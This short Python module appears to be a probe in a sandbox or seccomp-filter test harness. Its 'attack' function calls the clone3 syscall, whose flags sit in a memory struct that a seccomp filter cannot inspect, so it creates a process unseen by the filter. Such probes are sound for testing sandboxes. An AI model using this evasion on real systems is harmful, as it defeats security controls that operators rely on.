"""Makes a process by the newest call, whose flags no filter sees."""

import os
import struct

from target import syscall


def attack(x):
    arguments = struct.pack("<8Q", 0, 0, 0, 0, 17, 0, 0, 0)
    if syscall("clone3", arguments, 64) == 0:
        os._exit(0)
    return 1.0
